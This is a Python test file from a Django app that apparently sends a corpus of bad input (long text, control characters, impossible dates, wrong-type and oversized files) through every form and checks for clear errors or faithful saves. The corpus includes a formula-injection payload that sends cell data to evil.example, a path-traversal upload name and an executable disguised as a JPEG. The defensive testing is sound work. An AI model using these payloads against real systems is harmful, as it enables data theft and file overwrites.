"""Bad input through every form of the app.

Every page some role may open in the URL matrix's world is opened as that role; every form on
it with something to type into or a file to choose is sent a corpus of bad input: very long
text, NUL and other control characters, emoji and right-to-left names, spreadsheet formulas,
impossible dates and times, absurd numbers, and files of the wrong type and size. Each answer
must be one of two things, never a server error:

- a clear message (the page shows an error) with everything she typed still in the form; or
- a save, with the text stored exactly as she typed it (found in the database).

Each submission runs in a savepoint that is rolled back, so every one starts from the same world.
"""

from dataclasses import dataclass, field

import pytest
from django.apps import apps
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection, models, transaction
from django.utils import timezone
from django.utils.html import escape

from .pages import client_as, collect_forms, post, shows_error

pytestmark = [pytest.mark.drill, pytest.mark.django_db]

PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
    b"\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00"
    b"\x00\x00IEND\xaeB`\x82"
)


@dataclass(frozen=True)
class Bad:
    """One kind of bad input: `text` goes into every box she types words into; the other
    fields get sensible values unless this entry is about them."""

    name: str
    text: str
    date: str = ""
    time: str = ""
    number: str = ""
    email: str = ""
    files: dict = field(default_factory=dict)  # name -> (file name, bytes, content type)


CORPUS = [
    Bad("very long text", "Long text. " * 2000),
    Bad("NUL and control characters", "Before\x00after \x07bell \x1b[31mred\x1b[0m \x0b\x7fend"),
    Bad("emoji and right-to-left names", "Amira 👩🏽‍⚕️ مريم العلي שרה \u202egnp.exe\u202c 🏳️‍🌈"),
    Bad("a spreadsheet formula", '=HYPERLINK("http://evil.example/?d="&A1,"Click me")'),
    Bad(
        "impossible dates and times",
        "Dates",
        date="2026-02-30",
        time="25:61",
        email="not an address",
    ),
    Bad("absurd numbers", "Numbers", number="-99999999999999999999999", date="31/02/2026"),
    Bad(
        "a file of the wrong type",
        "Files",
        files={"*": ("photo.jpg", b"MZ\x90\x00 this is a program, not a photo", "image/jpeg")},
    ),
    Bad(
        "a file that is too big",
        "Files",
        files={"*": ("photo.png", PNG + b"\x00" * (6 * 1024 * 1024), "image/png")},
    ),
    Bad(
        "a file with a dangerous name",
        "Files",
        files={"*": ("../../.bashrc.png", PNG, "image/png")},
    ),
]


def _fill(form, bad: Bad) -> tuple[dict, dict, list]:
    """(data, files, typed): the form as she would send it with this bad input."""
    today = timezone.localdate()
    data = form.data()
    typed = []  # (field name, what she typed) to look for afterwards
    for f in form.fields:
        if f.tag == "select" and not f.multiple and not any(s for _v, s, _t in f.options):
            chosen = next((v for v, _s, _t in f.options if v), None)  # a real choice
            if chosen is not None:
                data[f.name] = [chosen]
        if not f.typed:
            continue
        kind = "textarea" if f.tag == "textarea" else f.type
        if kind in ("text", "", "textarea"):
            value = bad.text
        elif kind == "search":
            value = bad.text[:500]
        elif kind == "date":
            value = bad.date or f.value or today.isoformat()
        elif kind == "datetime-local":
            value = f"{bad.date}T{bad.time or '10:00'}" if bad.date else f.value or f"{today}T10:00"
        elif kind == "time":
            value = bad.time or f.value or "10:00"
        elif kind == "number":
            value = bad.number or f.value or f.attrs.get("min") or "1"
        elif kind == "email":
            value = bad.email or f.value or "drill@example.org"
        elif kind == "password":
            value = bad.text[:200]
        else:
            value = f.value or bad.text
        data[f.name] = [value]
        if kind not in ("password", "search"):  # a search box is a question, not data
            typed.append((f.name, value))
    files = {}
    for f in form.file_fields():
        if "*" in bad.files:
            file_name, content, content_type = bad.files["*"]
            files[f.name] = SimpleUploadedFile(file_name, content, content_type)
    return data, files, typed


def _text_columns() -> list[tuple[str, list[str]]]:
    tables = []
    for model in apps.get_models():
        columns = [
            f.column
            for f in model._meta.concrete_fields
            if isinstance(f, models.CharField | models.TextField)
        ]
        if columns and not model._meta.proxy:
            tables.append((model._meta.db_table, columns))
    return tables


def _stored(value: str) -> bool:
    """Is `value` (as a form field would clean it: trimmed) in some text column? One query."""
    needle = value.strip()
    if "\x00" in needle:
        return False  # PostgreSQL text cannot hold NUL: it was not stored as typed
    quote = connection.ops.quote_name
    find = "strpos" if connection.vendor == "postgresql" else "instr"
    checks = [
        f"EXISTS (SELECT 1 FROM {quote(table)} WHERE "
        + " OR ".join(f"{find}({quote(column)}, %s) > 0" for column in columns)
        + ")"
        for table, columns in _text_columns()
    ]
    params = [needle for _table, columns in _text_columns() for _column in columns]
    with connection.cursor() as cursor:
        cursor.execute("SELECT " + " OR ".join(checks), params)
        return bool(cursor.fetchone()[0])


def _templates(response) -> set[str]:
    return {template.name for template in getattr(response, "templates", []) or []}


def _problems(client, response, bad, typed, form) -> list[str]:
    status = response.status_code
    if status >= 500:
        return [f"server error {status}"]
    if form.method == "get":
        # A NUL in a search gets the plain "that search could not be done" page.
        bad_query = status == 400 and "centre/bad_query.html" in _templates(response)
        return [] if status in (200, 302) or bad_query else [f"status {status}"]
    followed = status in (301, 302, 303)
    if followed:  # where she lands, with any message the redirect left for her
        response = client.get(response["Location"])
        if response.status_code >= 500:
            return [f"server error {response.status_code} after the redirect"]
    page = response.content.decode(errors="replace")
    if shows_error(page):
        lost = [
            name
            for name, value in typed
            if escape(value) not in page and escape(value.strip()) not in page
        ]
        if not lost:
            return []
        how = "is sent elsewhere with a message and" if followed else "is shown a message but"
        return [f"{how} loses what she typed in {lost}"]
    if status not in (200, 302, 303):
        return [f"status {status} with no message on the page"]
    # Saved: each box of words is stored as she typed it.
    missing = [name for name, value in typed if value == bad.text and not _stored(value)]
    if missing:
        return [f"no message, and what she typed in {missing} is not stored as typed"]
    return []


def test_bad_input_gets_a_clear_message_or_is_saved_as_typed(world):
    failures, tried = [], 0
    for name, column, forms in collect_forms(world):
        client = client_as(world, column)
        for index, form in enumerate(forms):
            if not form.typed_fields() and not form.file_fields():
                continue
            for bad in CORPUS:
                if bad.files and not form.file_fields():
                    continue
                data, files, typed = _fill(form, bad)
                with transaction.atomic():  # every submission starts from the same world
                    try:
                        response = post(client, form, data, files)
                        problems = _problems(client, response, bad, typed, form)
                    except Exception as error:  # noqa: BLE001 - a server error, reported below
                        problems = [f"{type(error).__name__}: {error}"[:300]]
                    transaction.set_rollback(True)
                cache.clear()  # rate limits count in the cache, which no rollback undoes
                failures += [f"{name} form {index}, {bad.name}: {p}" for p in problems]
                tried += 1
    assert tried > 100, f"only {tried} submissions: were the forms found?"
    assert not failures, "\n".join(failures)
